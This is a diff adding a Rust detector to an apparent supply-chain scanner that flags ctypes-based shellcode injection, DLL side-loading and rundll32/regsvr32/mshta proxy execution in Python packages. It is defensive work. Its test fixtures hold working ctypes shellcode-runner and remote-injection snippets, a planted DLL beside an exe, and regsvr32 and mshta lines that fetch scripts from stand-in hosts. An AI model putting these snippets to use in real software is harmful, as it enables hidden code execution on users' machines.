@@ -1,0 +1,286 @@
+//! `execution.native-injection`: native code injection and proxy execution on
+//! Windows, reached from Python through `ctypes`:
+//!
+//! - **shellcode runners and injectors**: Win32 memory and thread APIs by name
+//!   (`VirtualAlloc(Ex)`, `VirtualProtect(Ex)`, `RtlMoveMemory`, `WriteProcessMemory`,
+//!   `CreateRemoteThread`, `CreateThread`, `OpenProcess`, `QueueUserAPC`,
+//!   `NtCreateThreadEx`, …) in a file that uses `ctypes` (`windll.kernel32`,
+//!   `WinDLL("kernel32")`). Scored by the combination: allocate/protect + write + start
+//!   a thread is Critical (that is running injected bytes), two of those steps High,
+//!   one Medium. `LoadLibrary`/`GetProcAddress` alone are how bindings resolve
+//!   functions and stay silent; ordinary bindings (`kernel32.GetConsoleMode`) never match.
+//! - **DLL side-loading**: a file that writes a `.dll` and starts an `.exe` (a signed
+//!   program that loads the planted library next to it): High.
+//! - **proxy execution**: `rundll32`, `regsvr32`, `mshta` in a command — Medium, Critical
+//!   with a remote or script payload (`/i:http…`, `scrobj.dll`, `javascript:`, a URL).
+//!
+//! Install time raises any hit to at least High; capped by place (`context`): tests/docs
+//! Medium, data files Low. Python: API names count in code and expression strings
+//! (`getattr(k32, "VirtualAlloc")`), never in comments or docstrings.
+
+use super::context;
+use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
+use super::sinks::{self, SinkKind};
+use crate::model::{Category, FileRole, Severity};
+use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
+use regex::Regex;
+use std::sync::LazyLock;
+
+pub(crate) static META: DetectorMeta = DetectorMeta {
+    id: "execution.native-injection",
+    revision: 1,
+    title: "Injects or side-loads native code.",
+    category: Category::Execution,
+    severity: Severity::High,
+    description: "Allocating executable memory, writing bytes into it (or into another process) and starting a thread there runs code no scanner saw; rundll32/regsvr32/mshta and planted DLLs run it through trusted programs.",
+};
+
+/// The steps of an injection.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Step {
+    /// Make memory executable: allocate or change protection.
+    Alloc,
+    /// Copy bytes into it (or into another process).
+    Write,
+    /// Run them: a (remote) thread or an APC.
+    Thread,
+    /// Open another process.
+    Open,
+}
+
+static WIN_API: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)(?P<alloc>VirtualAlloc(?:Ex)?|VirtualProtect(?:Ex)?|NtAllocateVirtualMemory|HeapCreate)|(?P<write>WriteProcessMemory|RtlMoveMemory|RtlCopyMemory|NtWriteVirtualMemory)|(?P<thread>CreateRemoteThread(?:Ex)?|CreateThread|NtCreateThreadEx|QueueUserAPC|SetThreadContext|RtlCreateUserThread|EnumSystemLocalesA)|(?P<open>OpenProcess)(?-u:\b)")
+        .expect("win api")
+});
+static CTYPES: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)(?-u:\b)(?:ctypes|windll|WinDLL|kernel32|ntdll)(?-u:\b)").expect("ctypes"));
+static LOLBIN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)(?-u:\b)(?:rundll32|regsvr32|mshta)(?:\.exe)?(?-u:\b)").expect("lolbin"));
+/// A remote or script payload on the same line as a proxy-execution binary.
+static REMOTE_PAYLOAD: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)https?:|/i:|scrobj\.dll|javascript:|vbscript:|\\\\[\w.-]+\\").expect("payload"));
+/// A `.dll` written: `open(... .dll ..., 'wb')`, a copy or download to a `.dll` path.
+static DLL_WRITE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:open\s*\([^\n]{0,200}?\.dll['"][^\n]{0,60}?['"]wb?['"]|(?:shutil\.copy\w*|urlretrieve|write_bytes)\s*\([^\n]{0,200}?\.dll['"])"#)
+        .expect("dll write")
+});
+static EXE_ARG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?i)\.exe['"\s]"#).expect("exe"));
+
+pub(crate) struct NativeInjection;
+
+impl NativeInjection {
+    fn injection(
+        &self,
+        file: &TextFile<'_>,
+        hits: &mut Hits,
+        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
+    ) {
+        let src = file.source();
+        let live = |o: usize| !src.python || matches!(src.kind_at(o), Kind::Code | Kind::Str);
+        if !CTYPES.find_iter(file.text).any(|m| live(m.start())) {
+            return;
+        }
+        let mut found: Vec<(usize, &str, Step)> = Vec::new();
+        for c in WIN_API.captures_iter(file.text) {
+            let m = c.get(0).expect("m");
+            if !live(m.start()) || pysrc::is_definition(file.text, m.start()) {
+                continue;
+            }
+            let step = match () {
+                _ if c.name("alloc").is_some() => Step::Alloc,
+                _ if c.name("write").is_some() => Step::Write,
+                _ if c.name("thread").is_some() => Step::Thread,
+                _ => Step::Open,
+            };
+            found.push((m.start(), m.as_str(), step));
+        }
+        let Some(&(first, _, _)) = found.first() else {
+            return;
+        };
+        let mut steps: Vec<Step> = found.iter().map(|f| f.2).collect();
+        steps.sort();
+        steps.dedup();
+        let has = |s: Step| steps.contains(&s);
+        let core = [Step::Alloc, Step::Write, Step::Thread].iter().filter(|&&s| has(s)).count();
+        let remote = has(Step::Open) && has(Step::Write) && has(Step::Thread);
+        let sev = match (core, remote) {
+            (3, _) | (_, true) => Severity::Critical,
+            (2, _) => Severity::High,
+            _ if has(Step::Open) && core == 0 => return, // OpenProcess alone: process tools (psutil-like)
+            _ => Severity::Medium,
+        };
+        let mut uniq: Vec<&str> = Vec::new();
+        for (_, name, _) in &found {
+            if !uniq.contains(name) {
+                uniq.push(name);
+            }
+        }
+        push(hits, first, format!("ctypes {}", uniq.join(" + ")), sev);
+    }
+
+    fn side_loading(
+        &self,
+        file: &TextFile<'_>,
+        hits: &mut Hits,
+        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
+    ) {
+        let src = file.source();
+        if !src.python {
+            return;
+        }
+        let Some(w) = DLL_WRITE.find_iter(file.text).find(|m| src.is_code(m.start())) else {
+            return;
+        };
+        let runs_exe = sinks::find(src, &[SinkKind::Process]).iter().any(|s| {
+            s.name.ends_with("startfile")
+                || EXE_ARG.is_match(pysrc::call_argument(file.text, s.offset + s.name.len() + 1, 400))
+        });
+        if runs_exe {
+            push(hits, w.start(), "writes a .dll then starts an .exe".to_string(), Severity::High);
+        }
+    }
+
+    fn proxy_execution(
+        &self,
+        file: &TextFile<'_>,
+        hits: &mut Hits,
+        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
+    ) {
+        let src = file.source();
+        for m in LOLBIN.find_iter(file.text) {
+            if src.python && src.kind_at(m.start()) != Kind::Str {
+                continue;
+            }
+            let line = pysrc::snippet(file.text, m.start());
+            let sev = if REMOTE_PAYLOAD.is_match(&line) { Severity::Critical } else { Severity::Medium };
+            push(hits, m.start(), m.as_str().to_ascii_lowercase(), sev);
+        }
+    }
+}
+
+impl Detector for NativeInjection {
+    fn meta(&self) -> &'static DetectorMeta {
+        &META
+    }
+    fn interest(&self) -> Interest {
+        Interest::Literals(&[
+            "VirtualAlloc",
+            "VirtualProtect",
+            "NtAllocateVirtualMemory",
+            "WriteProcessMemory",
+            "RtlMoveMemory",
+            "CreateRemoteThread",
+            "CreateThread",
+            "QueueUserAPC",
+            "HeapCreate",
+            ".dll",
+            "rundll32",
+            "regsvr32",
+            "mshta",
+            "RUNDLL32",
+            "REGSVR32",
+            "MSHTA",
+        ])
+    }
+    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
+        // Type stubs (`.pyi`) declare the Win32 API; they never run.
+        if file.role == FileRole::Metadata || file.path.ends_with(".pyi") {
+            return;
+        }
+        let install = file.role == FileRole::InstallTime;
+        let mut n = 0;
+        let mut push = |hits: &mut Hits, off: usize, ind: String, sev: Severity| {
+            if n >= MAX_HITS_PER_FILE {
+                return;
+            }
+            n += 1;
+            let sev = if install { sev.max(Severity::High) } else { sev };
+            let sev = context::cap(file, sev);
+            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
+        };
+        self.injection(file, hits, &mut push);
+        self.side_loading(file, hits, &mut push);
+        self.proxy_execution(file, hits, &mut push);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::scan::detectors::testutil::table;
+    use FileRole::*;
+    use Severity::*;
+
+    const RUNNER: &str = "import ctypes\nk32 = ctypes.windll.kernel32\nbuf = bytearray(SC)\nptr = k32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nk32.RtlMoveMemory(ptr, (ctypes.c_char * len(buf)).from_buffer(buf), len(buf))\nh = k32.CreateThread(0, 0, ptr, 0, 0, 0)\nk32.WaitForSingleObject(h, -1)\n";
+    const REMOTE: &str = "from ctypes import *\nk = WinDLL('kernel32')\nh = k.OpenProcess(0x1F0FFF, False, pid)\na = k.VirtualAllocEx(h, 0, n, 0x3000, 0x40)\nk.WriteProcessMemory(h, a, sc, n, 0)\nk.CreateRemoteThread(h, None, 0, a, None, 0, None)\n";
+
+    #[test]
+    fn cases() {
+        table(
+            &NativeInjection,
+            META.id,
+            &[
+                ("shellcode runner", "pkg/__init__.py", Runtime, RUNNER, Some((4, "ctypes VirtualAlloc + RtlMoveMemory + CreateThread", Critical))),
+                ("remote injection", "pkg/inj.py", Runtime, REMOTE, Some((3, "ctypes OpenProcess + VirtualAllocEx + WriteProcessMemory + CreateRemoteThread", Critical))),
+                (
+                    "names resolved through getattr strings",
+                    "pkg/a.py",
+                    Runtime,
+                    "import ctypes\nk = ctypes.windll.kernel32\nalloc = getattr(k, 'VirtualAlloc')\nmove = getattr(k, 'RtlMoveMemory')\n",
+                    Some((3, "ctypes VirtualAlloc + RtlMoveMemory", High)),
+                ),
+                (
+                    "one step in a JIT-like helper",
+                    "pkg/jit.py",
+                    Runtime,
+                    "import ctypes\nkernel32 = ctypes.windll.kernel32\nmem = kernel32.VirtualAlloc(None, size, 0x3000, 0x40)\n",
+                    Some((3, "ctypes VirtualAlloc", Medium)),
+                ),
+                ("runner in setup.py", "setup.py", InstallTime, RUNNER, Some((4, "ctypes VirtualAlloc + RtlMoveMemory + CreateThread", Critical))),
+                ("runner in tests is capped", "pkg/tests/test_mem.py", TestOrDocs, RUNNER, Some((4, "ctypes VirtualAlloc + RtlMoveMemory + CreateThread", Medium))),
+                (
+                    "dll planted next to a signed exe",
+                    "pkg/a.py",
+                    Runtime,
+                    "import os, subprocess\nd = os.path.join(os.environ['APPDATA'], 'Updater')\nopen(os.path.join(d, 'version.dll'), 'wb').write(blob)\nsubprocess.Popen([os.path.join(d, 'Updater.exe')])\n",
+                    Some((3, "writes a .dll then starts an .exe", High)),
+                ),
+                (
+                    "regsvr32 scriptlet from a URL",
+                    "pkg/a.py",
+                    Runtime,
+                    "os.system('regsvr32 /s /n /u /i:http://example.org/x.sct scrobj.dll')\n",
+                    Some((1, "regsvr32", Critical)),
+                ),
+                (
+                    "rundll32 in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nsubprocess.call(['rundll32.exe', p + ',Start'])\n",
+                    Some((2, "rundll32.exe", High)),
+                ),
+                ("mshta javascript", "pkg/run.bat", Other, "mshta javascript:a=GetObject(\"script:http://x/y\")\n", Some((1, "mshta", High))),
+                (
+                    "console-mode binding (pywin32-style)",
+                    "pkg/console.py",
+                    Runtime,
+                    "import ctypes\nkernel32 = ctypes.windll.kernel32\nh = kernel32.GetStdHandle(-11)\nkernel32.GetConsoleMode(h, ctypes.byref(mode))\nkernel32.SetConsoleMode(h, mode.value | 4)\n",
+                    None,
+                ),
+                (
+                    "LoadLibrary and GetProcAddress binding",
+                    "pkg/_win.py",
+                    Runtime,
+                    "import ctypes\nlib = ctypes.windll.kernel32.LoadLibraryW('x.dll')\nf = ctypes.windll.kernel32.GetProcAddress(lib, b'Init')\n",
+                    None,
+                ),
+                ("OpenProcess alone (process tool)", "pkg/proc.py", Runtime, "import ctypes\nh = ctypes.windll.kernel32.OpenProcess(0x1000, False, pid)\n", None),
+                ("api named in a docstring", "pkg/a.py", Runtime, "\"\"\"Unlike VirtualAlloc + CreateThread, this is safe.\"\"\"\nimport ctypes\n", None),
+                ("type stub declaring the api", "pkg/_winapi.pyi", Runtime, "import ctypes\nVirtualAlloc: Incomplete\nRtlMoveMemory: Incomplete\n", None),
+                ("api names without ctypes (a C header listing)", "pkg/api.txt", Other, "VirtualAlloc\nCreateThread\nRtlMoveMemory\n", None),
+                ("dll copied, no exe started", "pkg/a.py", Runtime, "shutil.copy(src, 'lib/foo.dll')\n", None),
+                ("regsvr32 in a comment", "pkg/a.py", Runtime, "# register with regsvr32 foo.dll\nx = 1\n", None),
+            ],
+        );
+    }
+}
